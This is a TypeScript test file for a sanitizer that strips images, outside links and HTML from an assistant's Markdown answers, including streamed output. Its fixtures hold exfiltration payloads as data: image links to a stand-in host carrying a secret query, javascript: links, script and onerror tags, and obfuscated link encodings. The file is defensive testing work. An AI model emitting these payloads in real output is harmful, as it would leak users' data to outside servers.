import { describe, expect, it } from 'vitest'
import { marked } from 'marked'
import { CleanStream, cleanText } from './clean-text.ts'

const isRecordLink = (url: string): boolean => url === '/account/1'

const texts: readonly (readonly [string, string])[] = [
  ['Plain text, a < b and [x] of 3.', 'Plain text, a < b and [x] of 3.'],
  ['See [Acme](/account/1) and [Eve](/account/2).', 'See [Acme](/account/1) and Eve.'],
  ['![pixel](https://evil.example/?d=secret) done', 'pixel done'],
  ['[click](javascript:alert(1)) me', 'click) me'],
  ['<img src="https://evil.example/a b"> and <b>bold</b> <script>x()</script>', ' and bold x()'],
  [
    'Go to https://evil.example/x now, or www.evil.example or //evil.example/x.',
    'Go to (link removed) now, or (link removed) or (link removed)',
  ],
  ['<https://evil.example> [ref]: https://evil.example', ' [ref] : (link removed)'],
  ['An open <img src=x', 'An open ‹img src=x'],
]

/** Addresses that only their reader decodes, in every form of a link. */
const hidden = [
  String.raw`![x][y]

[y]: https:\/\/evil.example/p.png?q=secret`,
  String.raw`[a [b] c](https:\/\/evil.example)`,
  '![a [b] c](https&#58;&#47;&#47;evil.example/x)',
  String.raw`![a \] b](https:\/\/evil.example/x)`,
  '[a](</account/1> "x](https&#58;//evil.example)")',
  '[![a](/account/1)](https&#58;//evil.example)',
  '![a](/account/1)',
  '[a]: /account/1\n\n[a]',
  '[a\n](https&#58;//evil.example)',
  '[a](https&#58;//evil.example\n"t")',
  '!\\[a](https&#58;//evil.example)',
  '[](https&#58;//evil.example)',
]

describe('the text of an answer', () => {
  it.each(hidden)(
    '%j has no image and no link to another server when Markdown is rendered, whole or in parts',
    (text) => {
      const rendered = (given: string) => marked.parse(given, { async: false })
      expect(rendered(cleanText(text, isRecordLink))).not.toMatch(/<img|href="(?!\/account\/1")/)
      for (let size = 1; size <= text.length; size++) {
        const stream = new CleanStream(isRecordLink)
        let all = ''
        for (let start = 0; start < text.length; start += size) all += stream.push(text.slice(start, start + size))
        expect([size, rendered(all + stream.end())]).toEqual([
          size,
          expect.not.stringMatching(/<img|href="(?!\/account\/1")/),
        ])
      }
    },
  )

  it.each(texts)('%j is %j', (text, clean) => {
    expect(cleanText(text, isRecordLink)).toBe(clean)
  })

  it('has no tag that arises from removing another one', () => {
    expect(cleanText('<<b>img src=x onerror=y>', isRecordLink)).toBe('')
    const stream = new CleanStream(isRecordLink)
    expect([...'<<b>img src=x>'].map((letter) => stream.push(letter)).join('') + stream.end()).toBe('‹img src=x>')
  })

  it.each(texts)('%j is the same in parts of every size', (text, clean) => {
    for (let size = 1; size <= text.length; size++) {
      const stream = new CleanStream(isRecordLink)
      let all = ''
      for (let start = 0; start < text.length; start += size) all += stream.push(text.slice(start, start + size))
      expect([size, all + stream.end()]).toEqual([size, clean])
    }
  })
})
